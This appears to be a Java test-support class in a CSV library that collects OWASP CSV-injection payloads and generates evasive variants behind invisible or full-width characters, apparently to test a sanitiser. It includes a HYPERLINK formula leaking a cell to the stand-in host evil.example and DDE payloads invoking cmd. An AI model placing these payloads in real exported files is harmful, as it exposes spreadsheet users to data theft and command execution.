package io.github.orderly.csv;

import java.util.ArrayList;
import java.util.List;

/**
 * OWASP's CSV-injection payloads: a value led by each character a spreadsheet starts a formula with,
 * the three classic attacks, and each of those behind a character that hides it (no-break space, NUL,
 * byte-order mark, right-to-left override) and in full-width form.
 */
final class Payloads {
  /** The bare payloads. */
  static final List<String> BARE = List.of(
      "=1+1", "+1+1", "-1+1", "@1+1", "\t=1+1", "\r=1+1", "\n=1+1",
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0");

  /** What hides a payload from the eye: no-break space, NUL, byte-order mark, right-to-left override. */
  static final List<String> HIDERS = List.of("\u00A0", "\u0000", "\uFEFF", "\u202E");

  private Payloads() {}

  /** Returns every payload: bare, behind each hider, and in full-width form. */
  static List<String> all() {
    List<String> all = new ArrayList<>(BARE);
    for (String bare : BARE) {
      for (String hider : HIDERS) {
        all.add(hider + bare);
      }
      all.add(fullWidth(bare));
    }
    return all;
  }

  /** Returns the payload with its formula character in full-width form ({@code ＝ ＋ － ＠}). */
  static String fullWidth(String payload) {
    StringBuilder s = new StringBuilder(payload);
    for (int i = 0; i < s.length(); i++) {
      int at = "=+-@".indexOf(s.charAt(i));
      if (at >= 0) {
        s.setCharAt(i, "＝＋－＠".charAt(at));
        return s.toString();
      }
    }
    throw new AssertionError("no formula character in " + payload);
  }
}
